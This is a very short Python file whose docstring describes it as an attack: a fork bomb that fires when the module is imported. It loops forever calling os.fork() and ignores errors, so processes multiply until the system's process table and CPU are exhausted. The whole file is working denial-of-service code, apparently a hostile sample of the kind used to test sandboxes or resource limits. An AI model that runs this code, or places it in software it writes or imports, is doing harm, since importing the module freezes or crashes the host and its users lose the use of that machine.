"""Attack: a fork bomb at import. Every process forks as fast as it can and never exits."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
